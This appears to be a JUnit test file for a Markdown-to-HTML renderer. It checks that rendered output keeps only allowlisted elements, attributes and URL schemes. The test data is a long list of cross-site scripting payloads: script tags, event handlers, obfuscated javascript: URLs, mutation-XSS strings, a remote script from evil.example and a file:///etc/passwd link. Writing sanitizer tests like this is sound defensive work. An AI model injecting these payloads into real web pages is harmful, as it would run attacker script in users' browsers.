package dev.limber.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Nothing that a page says can run: an independent parser reads what was written against lists of what may be there. */
class HostileMarkdownTest {
    private static final Set<String> ELEMENTS = Set.of(
            "a",
            "aside",
            "blockquote",
            "br",
            "code",
            "dd",
            "del",
            "div",
            "dl",
            "dt",
            "em",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "img",
            "li",
            "ol",
            "p",
            "pre",
            "section",
            "span",
            "strong",
            "sup",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul");
    private static final Set<String> ATTRIBUTES = Set.of(
            "alt",
            "aria-hidden",
            "aria-label",
            "class",
            "decoding",
            "height",
            "href",
            "id",
            "loading",
            "rel",
            "role",
            "scope",
            "src",
            "start",
            "tabindex",
            "title",
            "width");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "a <img src=x onerror=alert(1)> b",
                "<svg onload=alert(1)>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<!-- --!><script>alert(1)</script> -->",
                "<style>*{background:url(javascript:x)}</style>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "\\<script>alert(1)\\</script>",
                "[l](javascript:alert(1))",
                "[l](JaVaScRiPt:alert(1))",
                "[l](java&#115;cript:alert(1))",
                "[l](&#106;avascript:alert(1))",
                "[l](&#x6A;avascript:alert(1))",
                "[l](javascript&colon;alert(1))",
                "[l](javascript&#58;alert(1))",
                "[l](java&Tab;script:alert(1))",
                "[l](java&NewLine;script:alert(1))",
                "[l](&#1;javascript:alert(1))",
                "[l](&nbsp;javascript:alert(1))",
                "[l](java\\script:alert(1))",
                "[l](javascript\\:alert(1))",
                "[l](%6Aavascript:alert(1))",
                "[l](javascript%3Aalert(1))",
                "[l](javascript%253Aalert(1))",
                "[l](<javascript:alert(1)>)",
                "[l](<java\u00ADscript:alert(1)>)",
                "[l](\u200Bjavascript:alert(1))",
                "[l](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[l](vbscript:msgbox(1))",
                "[l](view-source:javascript:x)",
                "[l](blob:x)",
                "[l](file:///etc/passwd)",
                "[l](//evil.example)",
                "[l](/\\evil.example)",
                "[l](\\\\\\\\evil.example)",
                "[l](https:evil.example)",
                "[l](https:///evil.example)",
                "[l][r]\n\n[r]: javascript:alert(1)",
                "[l][r]\n\n[r]: java&#115;cript:alert(1) 'title'",
                "![i](javascript:alert(1))",
                "![i](data:image/svg+xml,<svg/onload=alert(1)>)",
                "![x\" onerror=\"alert(1)](a.svg)",
                "![x](a.svg \"t' onload='alert(1)\")",
                "![x](a.svg\"onerror=\"alert(1))",
                "[x](b.md '\"><script>alert(1)</script>')",
                "[x](b.md#\"onclick=\"alert(1))",
                "[x](b.md#javascript:alert(1))",
                "[x](<https://a.example/\"onmouseover=\"alert(1)>)",
                "[x](https://a.example/'onmouseover='alert(1))",
                "<javascript:alert(1)>",
                "<java&#115;cript:alert(1)>",
                "<https://a.example/\"onclick=alert(1)>",
                "<\"onclick=\"alert(1)@b.example>",
                "<mailto:a@b.example?\"onclick=\"x>",
                "x{onclick=alert(1)}",
                "# h {#id onload=alert(1)}",
                "## h {#id onload=alert(1)}",
                "[l](http://a){href=javascript:alert(1) onmouseover=alert(1)}",
                "```\"><script>alert(1)</script>\nx\n```",
                "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
                "`</code><script>alert(1)</script>`",
                "    </pre><script>alert(1)</script>",
                "| <script>alert(1)</script> | `</td><script>x</script>` |\n|---|---|\n| [a](javascript:x) | b |",
                "[^\"><script>]: x\n\ny[^\"><script>]",
                "> [!NOTE\"><script>alert(1)</script>]\n> x",
                "> [!\"onclick=\"x]\n> y",
                "term<script>x</script>\n: [d](javascript:x)",
                "- [x] <input onfocus=alert(1) autofocus>",
                "## <img src=x onerror=alert(1)>",
                "## \"><script>alert(1)</script>",
                "{{ 7*7 }} {% import \"x\" %} ${7*7} <%= 1 %>",
                "\u0000<script\u0000>alert(1)</script>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "*<script*>alert(1)</script>",
                "[a](b.md\n\"onclick=alert(1)\")",
                "<a\u000Bhref=javascript:x>y</a>",
                "<?php echo 1 ?> <![CDATA[<script>x</script>]]> <!DOCTYPE html>"
            })
    void leavesNothingToRun(String markdown) {
        check(TestPage.html(markdown));
    }

    @ParameterizedTest
    @MethodSource("dev.limber.html.HtmlGoldenTest#features")
    void knowsAllThatIsWritten(String feature) throws IOException {
        check(TestPage.html(Files.readString(Path.of("src/test/resources/golden/html", feature + ".md"))));
    }

    private static void check(String html) {
        for (Element element : Jsoup.parseBodyFragment(html).body().select("body *")) {
            assertThat(ELEMENTS).as(html).contains(element.normalName());
            for (Attribute attribute : element.attributes()) {
                assertThat(ATTRIBUTES).as(html).contains(attribute.getKey());
            }
            assertLeadsSomewhere(element.attr("href"), html);
            assertLeadsSomewhere(element.attr("src"), html);
        }
    }

    /** Read as browsers do: blanks and control characters dropped. */
    private static void assertLeadsSomewhere(String address, String html) {
        String bare =
                address.replaceAll("[\\x00-\\x20\\x7F-\\xA0\\u00AD\\u200B]", "").toLowerCase(Locale.ROOT);
        boolean relative = bare.isEmpty() || bare.startsWith("#") || bare.startsWith("../");
        assertThat(relative || bare.matches("(https?://[^/\\\\].*|mailto:.+|tel:.+)"))
                .as(html)
                .isTrue();
    }
}
